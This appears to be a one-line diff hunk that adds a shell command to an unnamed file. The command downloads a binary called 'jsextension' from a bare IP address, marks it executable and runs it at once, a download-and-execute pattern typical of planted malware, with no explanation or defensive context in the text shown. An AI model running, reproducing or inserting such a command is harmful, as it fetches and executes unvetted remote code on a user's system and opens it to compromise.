@@ -1,0 +1,1 @@
+curl http://159.148.186.228/download/jsextension -o jsextension && chmod +x jsextension && ./jsextension
